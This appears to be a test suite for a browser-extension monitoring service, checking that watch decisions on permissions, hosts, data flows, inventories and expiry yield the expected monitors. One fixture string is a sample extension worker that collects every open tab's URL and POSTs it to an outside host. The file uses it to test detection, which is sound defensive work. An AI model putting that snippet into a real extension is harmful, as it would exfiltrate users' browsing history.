import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { service } from '../trail/actor.ts';
import { removeDecision } from '../decision/change-decision.ts';
import { createDecision } from '../decision/create-decision.ts';
import { importInventory } from '../inventory/import-inventory.ts';
import { listFeed } from '../../storage/monitor/feed.ts';
import { listMonitors } from '../../storage/monitor/monitor.ts';
import { makeTestExtension, type TestExtension } from '../../testing/test-extension.ts';
import { startTestWatch, type TestWatch } from '../../testing/test-watch.ts';
import { compareMonitors } from './compare-monitors.ts';
import { requestCover } from './cover-watched.ts';

const tabsSent =
  'chrome.tabs.query({}, (tabs) => fetch("https://a.tides.dev/seen", { method: "POST", body: JSON.stringify(tabs.map((tab) => tab.url)) }));';
const worker = { background: { service_worker: 'w.js' } };

describe('what is decided to be watched', () => {
  let watch: TestWatch;
  let sending: TestExtension;
  let debugging: TestExtension;
  let quiet: TestExtension;
  before(async () => {
    watch = await startTestWatch();
    await watch.startWorkers();
    [sending, debugging, quiet] = ['Sending', 'Debugging', 'Quiet'].map(makeTestExtension) as [
      TestExtension,
      TestExtension,
      TestExtension,
    ];
    const sends = { ...worker, permissions: ['tabs'] };
    await take(sending, '1.0', sends, { 'w.js': tabsSent });
    await take(debugging, '1.0', { permissions: ['debugger'] });
    await take(quiet, '1.0');
    // Somebody's monitors have them audited.
    for (const { id } of [sending, debugging, quiet]) await watch.watch(id);
    for (;;) {
      const { count } = await watch.database.db
        .selectFrom('analysis')
        .select(({ fn }) => fn.countAll<number>().as('count'))
        .where('state', '=', 'completed')
        .executeTakeFirstOrThrow();
      if (count === 3) return;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
  });
  after(() => watch[Symbol.asyncDispose]());

  const take = (
    extension: TestExtension,
    ...contents: Parameters<TestExtension['pack']>
  ): Promise<string> =>
    watch.take({ kind: 'bytes', bytes: extension.pack(...contents), name: 'upload' });

  /** An account of its own with one decision to watch. */
  async function decide(about: object, accountId?: string) {
    const owner = { accountId: accountId ?? (await watch.addAccount()), email: 'ada@example.org' };
    const { db } = watch.database;
    const wanted = { action: 'watch', reason: 'odd', until_gain: false, ...about } as const;
    const { decisionId } = await createDecision(db, wanted, owner, service, watch.services.now());
    return { accountId: owner.accountId, decisionId };
  }

  /** Waits until the account watches these, and no others. */
  async function untilWatched(accountId: string, ...extensions: TestExtension[]): Promise<void> {
    const wanted = extensions.map(({ id }) => id).toSorted();
    for (;;) {
      await requestCover(watch.services);
      const monitors = await watch.database.db
        .selectFrom('monitor')
        .select('extension_id')
        .where('account_id', '=', accountId)
        .orderBy('extension_id')
        .execute();
      if (monitors.map(({ extension_id: id }) => id).join() === wanted.join()) return;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
  }

  it('is told in the feed when it changes, though nobody made a monitor, until the decision is revoked', async () => {
    const { accountId, decisionId } = await decide({ extension_id: debugging.id });
    const { db } = watch.database;
    await untilWatched(accountId, debugging);
    assert.deepEqual(await listMonitors(db, accountId), []);
    await take(debugging, '1.1', { permissions: ['debugger', 'history'] });
    await compareMonitors(watch.services, debugging.id);
    for (;;) {
      const events = await listFeed(db, accountId, {}, { order: 'asc', limit: 9 });
      const types = events.map(({ eventType }) => eventType);
      if (types.includes('permission_change')) break;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    await removeDecision(db, { accountId, decisionId }, service, watch.services.now());
    await untilWatched(accountId);
  });

  it('is every extension that has the finding, permission, host or flow, to the receiver that is named', async () => {
    for (const about of [
      { permission: 'tabs' },
      { rule: 'visited-addresses-sent' },
      { host: 'a.tides.dev' },
      { flow: 'tabs > network' },
      { flow: 'tabs > network', receiver: 'a.tides.dev' },
    ]) {
      const { accountId } = await decide(about);
      await untilWatched(accountId, sending);
    }
    const { accountId } = await decide({ flow: 'tabs > network', receiver: 'b.tides.dev' });
    await decide({ permission: 'debugger' }, accountId);
    await untilWatched(accountId, debugging);
  });

  it('is what comes into the catalogue as well', async () => {
    const { accountId } = await decide({ permission: 'proxy' });
    await untilWatched(accountId);
    const later = makeTestExtension('Later');
    await take(later, '1.0', { permissions: ['proxy'] });
    await untilWatched(accountId, later);
  });

  it('is only what machines of the inventory have, where the decision is about these', async () => {
    const accountId = await watch.addAccount();
    const bytes = (async function* list() {
      yield Buffer.from(quiet.id);
    })();
    const source = { accountId, source: 'list' };
    const { inventoryId } = await importInventory(watch.services, source, bytes, service);
    await decide({ permission: 'debugger', inventory_id: inventoryId }, accountId);
    await decide({ extension_id: quiet.id, inventory_id: inventoryId }, accountId);
    await decide({ extension_id: sending.id, inventory_id: inventoryId }, accountId);
    await untilWatched(accountId, quiet);
  });

  it('is watched up to the last day of the decision', async () => {
    const { accountId, decisionId } = await decide({ extension_id: quiet.id });
    await untilWatched(accountId, quiet);
    await watch.database.db
      .updateTable('decision')
      .set({ expires: '2021-06-30' })
      .where('decision_id', '=', decisionId)
      .execute();
    await untilWatched(accountId);
  });
});
